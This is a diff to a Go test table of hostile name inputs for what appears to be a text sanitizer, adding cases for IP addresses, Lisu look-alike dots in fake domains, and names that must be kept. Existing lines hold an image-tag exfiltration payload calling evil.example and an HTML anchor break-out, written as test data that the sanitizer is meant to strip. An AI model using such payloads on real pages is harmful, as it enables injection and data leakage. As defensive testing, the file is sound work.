@@ -14,6 +14,12 @@ var hostileNames = []struct {
 	name, in, want string
 }{
 	{"code exfiltration img", `<img src="https://evil.example/c?x={####}">`, ""},
+	{"ip address among words", "Visit 8.8.8.8 now", ""},
+	{"single-digit ip octets", "Call 1.2.3.4", ""},
+	{"lisu dot look-alike", "evil\uA4F8io", ""},
+	{"lisu comma look-alike in a domain", "evil\uA4F9io\uA4F8com", ""},
+	{"hawaiian okina kept", "Ka\u02BBiulani", "Ka\u02BBiulani"},
+	{"initials kept", "J.R.R. Tolkien", "J.R.R. Tolkien"},
 	{"anchor break-out", `</a><a href=//evil.io>click</a>`, ""},
 	{"link placeholder", `{##Click##}`, "Click"},
 	{"username placeholder", `{username}`, "username"},
